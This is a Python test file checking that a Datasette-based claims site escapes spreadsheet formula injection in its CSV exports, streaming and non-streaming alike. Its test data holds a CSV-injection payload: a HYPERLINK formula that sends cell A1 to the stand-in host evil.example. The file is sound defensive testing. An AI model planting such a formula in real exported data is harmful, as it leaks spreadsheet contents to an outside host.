"""CSV that Datasette writes, and what a spreadsheet finds in it."""

import csv
import io
from itertools import chain
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from claimdesk.site.guard.csv_cells import Records
from claimdesk.store.database import Store
from claimdesk.tables.safe import defuse, undefuse
from tests.support import newsroom
from tests.support.desking import Desk
from tests.support.small_site import open_site, shut
from tests.support.stock import stock

BOMB = '=HYPERLINK("http://evil.example/"&A1,"a, b")\n@second'
CELLS = [BOMB, "+1 555", "-a", "@x", "\tt", "'=kept", "plain", "-5", "-0.25", "1e-5", "a\r\nb", ""]


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.fixture(scope="module")
def bombed(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """A site with claims that a spreadsheet would run, among others that it would not."""
    path: Path = tmp_path_factory.mktemp("bombed") / "claims.db"
    texts = {"bomb": BOMB, "at": "@SUM(1)", "noise": "The dam was finished in 2006"}
    queries = {"canned": {"sql": "select text from claims where id <> :no order by id"}}
    site = open_site(stock(path, texts), {"databases": {"claims": {"queries": queries}}})
    yield site
    shut(site)


@pytest.mark.parametrize(
    "path",
    [
        "/claims/claims.csv?_col=text&_sort=id",
        "/claims/claims.csv?_col=text&_sort=id&_stream=on",
        "/claims/claims.csv?_col=text&_sort=id&_dl=1",
        "/claims/claims.csv?_col=text&_sort=id&_trace=1&_dl=1",
        "/claims/claims.csv?_col=text&_sort=id&_size=max&_labels=on",
        "/claims.csv?sql=select+text+from+claims+order+by+id",
        "/claims.csv?sql=select+text+from+claims+order+by+id&_stream=on&_header=off",
        "/claims/canned.csv?no=x",
        "/claims/canned.csv?no=x&_dl=on",
    ],
)
async def test_no_route_lets_a_formula_out(bombed: Any, path: str) -> None:
    """B9: these came as they were."""
    answer = await bombed.client.get(path)
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith(("text/plain", "text/csv"))
    found = [row[-1] for row in rows(answer.text)]
    assert "'@SUM(1)" in found
    assert "'" + BOMB in found
    assert "The dam was finished in 2006" in found
    assert undefuse("'" + BOMB) == BOMB


async def test_a_name_of_a_column_is_defused_too(bombed: Any) -> None:
    answer = await bombed.client.get("/claims.csv", params={"sql": 'select 1 as "=a", -2 as b'})
    assert rows(answer.text) == [["'=a", "b"], ["1", "-2"]]


async def test_what_we_have_defused_is_not_defused_again(desk: Desk) -> None:
    with Store(desk.db) as store, store.transaction():
        newsroom.add_claim(store, "clm_bomb", "=1+1", 0)
    answer = await desk.person().get("/worklist.csv?excel=0&limit=100")
    (row,) = [row for row in rows(answer.text) if row[0] == "clm_bomb"]
    assert [cell for cell in row if "=1" in cell] == ["'=1+1", "'=1+1"]


async def test_other_answers_are_left_alone(bombed: Any) -> None:
    found = (await bombed.client.get("/claims/claims.json?_shape=array&_col=text")).json()
    assert BOMB in [row["text"] for row in found]


def written(table: list[list[str]]) -> list[bytes]:
    out = []
    for row in table:
        record = io.StringIO(newline="")
        csv.writer(record).writerow(row)
        out.append(record.getvalue().encode())
    return out


def test_cells_change_by_an_apostrophe_or_not_at_all() -> None:
    records = Records()
    out = b"".join(map(records.feed, written([CELLS]))) + records.feed(b"", last=True)
    guarded = ["'" + cell for cell in CELLS[:6]]
    assert rows(out.decode()) == [guarded + CELLS[6:]]


cells = st.lists(
    st.text(st.sampled_from("=+-@'\t\r\n,\"aé1. "), max_size=8).filter(lambda it: "\0" not in it),
    min_size=1, max_size=4,
)  # fmt: skip


@given(st.lists(cells, min_size=1, max_size=4), st.integers(1, 7))
def test_any_table_comes_through_in_any_pieces(table: list[list[str]], size: int) -> None:
    whole = b"".join(written(table))
    records = Records()
    pieces = [whole[at : at + size] for at in range(0, len(whole), size)]
    out = b"".join(map(records.feed, pieces)) + records.feed(b"", last=True)
    expected = rows(whole.decode())
    found = rows(out.decode())
    assert [len(row) for row in found] == [len(row) for row in expected]
    for got, had in zip(chain(*found), chain(*expected), strict=True):
        assert got in (had, defuse(had))
        assert not got.startswith(("=", "@", "\t", "\r"))


def test_what_is_not_csv_comes_through() -> None:
    records = Records()
    assert records.feed(b'a "broken', last=False) == b""
    assert records.feed(b" text", last=True) == b'a "broken text'
